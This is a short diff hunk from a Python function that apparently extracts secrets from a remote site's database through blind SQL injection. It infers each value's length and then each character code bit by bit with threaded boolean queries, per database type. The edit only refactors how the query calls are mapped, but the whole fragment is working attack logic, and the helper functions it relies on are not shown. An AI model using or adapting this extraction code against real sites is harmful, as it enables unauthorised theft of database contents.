@@ -29,7 +29,8 @@ def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...])
             length = _number(list(threads.map(partial(ask, f"{_LENGTH[dbms]}({secret})"), range(8))))
             bits = 7 if dbms == "mariadb" else 17
             codes = [f"{_CODE[dbms]}(substr({secret},{position},1))" for position in range(1, length + 1)]
-            answers = list(threads.map(lambda work: ask(*work), [(code, bit) for code in codes for bit in range(bits)]))
+            asked = [(code, bit) for code in codes for bit in range(bits)]
+            answers = list(threads.map(ask, *zip(*asked, strict=True)))
             value = "".join(chr(_number(answers[at : at + bits])) for at in range(0, len(answers), bits))
             if dbms == "mariadb":
                 value = bytes.fromhex(value).decode("utf-8")
